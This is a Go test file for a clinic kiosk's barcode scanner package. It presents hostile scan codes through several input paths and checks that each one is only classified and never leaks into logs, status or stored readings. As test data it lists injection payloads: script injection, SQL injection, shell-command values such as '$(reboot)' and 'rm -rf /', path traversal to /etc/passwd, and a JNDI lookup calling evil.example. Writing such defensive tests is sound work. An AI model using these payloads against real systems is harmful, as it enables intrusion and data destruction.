package scanner_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"clinicgate/devices"
	"clinicgate/devices/scanner"
	"clinicgate/devices/simulator"
	"clinicgate/kiosk/phi"
)

// canary stands in each hostile code, so that it is found wherever it leaks.
const canary = "zqxv"

// hostileCodes are what a person may hold under the scanner to make something
// happen, and what each may be classified as.
func hostileCodes() map[string]scanner.Kind {
	unknown := []string{
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "http://evil.example/?" + canary, "file:///etc/passwd",
		"' OR 1=1 --", `"; DROP TABLE queue; --`, "$(reboot)", "`reboot`", "; reboot", "| sh", "&& shutdown -h now", "../../../../etc/passwd",
		"\x1b[2J\x1b]0;owned\x07", "\x1b@\x1dV\x01", "a\r\nlevel=ERROR msg=owned", "a\nevent: view\ndata: {}", "\x04\x05\x06\x07\x08", "\x7f\x7f",
		"%s%n%x%p%d", "%!s(PANIC=x)", "{{.Build}}", "${jndi:ldap://evil.example/a}", "\t\t\t \r\n\r\n.", "\u202egnp.exe", "\u2066\u2069", "\ufeff",
		strings.Repeat("A", 4000), strings.Repeat("é", 2000), "AT+CFUN=1", "\x16M\rDEFALT.", `{"__proto__":{"a":1}}`, "%E?", "ANSI 636000",
	}
	codes := map[string]scanner.Kind{
		"CHK1:" + canary + "<script>alert(1)</script>": scanner.AppointmentCode,
		"TKT1:" + canary + "$(reboot)":                 scanner.TicketCode,
		"shc:/" + canary:                               scanner.HealthCard,
		"shlink:/" + canary:                            scanner.HealthLink,
		"http://evil.example/" + canary + "#shlink:/a": scanner.HealthLink,
		"%" + canary + "^;rm -rf /?":                   scanner.MagneticStripe,
		"\x1d90" + canary + "<script>":                 scanner.GS1,
		canary + " 4111 1111 1111 1111":                scanner.PaymentCard,
		"@\n\x1e\rANSI 636000" + canary + "\n":         scanner.Licence,
	}
	for _, c := range unknown {
		codes[canary+c+canary] = scanner.Unknown
	}
	return codes
}

// TestHostileCodes: whichever way it comes, a code can do nothing but be
// classified. What it says is in the reading's value and nowhere else.
func TestHostileCodes(t *testing.T) {
	type way struct {
		name string
		make func(t *testing.T) (d *desk, present func(code string), status func() devices.Status)
	}
	node := func(mode scanner.Mode, suffix, end string) way {
		return way{string(mode), func(t *testing.T) (*desk, func(string), func() devices.Status) {
			d := newNodeDesk(t, mode, func(c *scanner.Config) { c.Suffix = suffix })
			d.start()
			return d.desk, func(code string) { d.present("", code+end) }, d.status
		}}
	}
	for _, w := range []way{
		{"serial", func(t *testing.T) (*desk, func(string), func() devices.Status) {
			d := newDesk(t, func(c *scanner.Config) { c.Suffix = "etx" })
			d.start()
			return d, func(code string) { d.scan(code + "\x03") }, d.status
		}},
		node(scanner.Keyboard, "etx", "\x03"),
		node(scanner.HIDPOS, "", ""),
		{"page", func(t *testing.T) (*desk, func(string), func() devices.Status) {
			t.Parallel()
			d := bareDesk(t)
			p, err := scanner.NewPage(scanner.Config{ID: "front", Mode: scanner.ByPage}, deps(d))
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			done := make(chan error, 1)
			go func() { done <- p.Run(ctx, d.sink) }()
			t.Cleanup(func() { cancel(); <-done })
			d.wantHealth(devices.Attached)
			return d, func(code string) {
				if err := p.Capture(t.Context(), phi.New(code)); err != nil {
					t.Errorf("Capture(%.40q) = %v", code, err)
				}
			}, p.Status
		}},
	} {
		t.Run(w.name, func(t *testing.T) {
			d, present, status := w.make(t)
			sent := int64(0)
			for code, want := range hostileCodes() {
				if w.name == string(scanner.Keyboard) {
					if _, err := simulator.Strokes([]byte(code)); err != nil {
						continue // such a scanner cannot say it
					}
				}
				present(code)
				sent++
				seen := func() int64 {
					c := status().Counters
					return c.Accepted + c.Throttled
				}
				d.untilTrue(fmt.Sprintf("%.40q counted", code), func() bool { return seen() == sent })
				if len(d.readings) == 0 {
					continue // one of too many that nobody knows
				}
				r := d.next()
				value := strings.TrimRight(r.Value.Reveal(), "\r\n")
				if r.Verdict == devices.Good && (r.Kind != string(want) || value != strings.TrimRight(code, "\r\n")) {
					t.Errorf("%.60q is a %s of value %.60q, want a %s", code, r.Kind, value, want)
				}
				if r.Verdict == devices.Good && want == scanner.PaymentCard {
					t.Errorf("%.60q is kept", code)
				}
				if r.Verdict != devices.Good && !r.Value.IsZero() {
					t.Errorf("%.60q: %s, and kept", code, r.Verdict)
				}
				if said, err := json.Marshal(r); err != nil || strings.Contains(string(said), canary) || strings.Contains(fmt.Sprintf("%+v %#v", r, r), canary) {
					t.Errorf("%.60q: the reading prints itself: %s", code, said)
				}
			}
			for len(d.health) > 0 {
				if h := <-d.health; strings.Contains(fmt.Sprintf("%+v", h), canary) {
					t.Errorf("health says a code: %+v", h)
				}
			}
			if strings.Contains(fmt.Sprintf("%+v", status()), canary) || strings.Contains(d.log.String(), canary) || strings.Contains(d.log.String(), "owned") {
				t.Errorf("status or log say a code: %+v\n%s", status(), d.log.String())
			}
			if got := status(); got.State != devices.Attached || got.Counters.Losses != 0 {
				t.Errorf("a code took the scanner away: %+v", got)
			}
		})
	}
}

// untilTrue waits for what another goroutine does.
func (d *desk) untilTrue(what string, ok func() bool) {
	d.t.Helper()
	d.until(what, func(devices.Status) bool { return ok() })
}
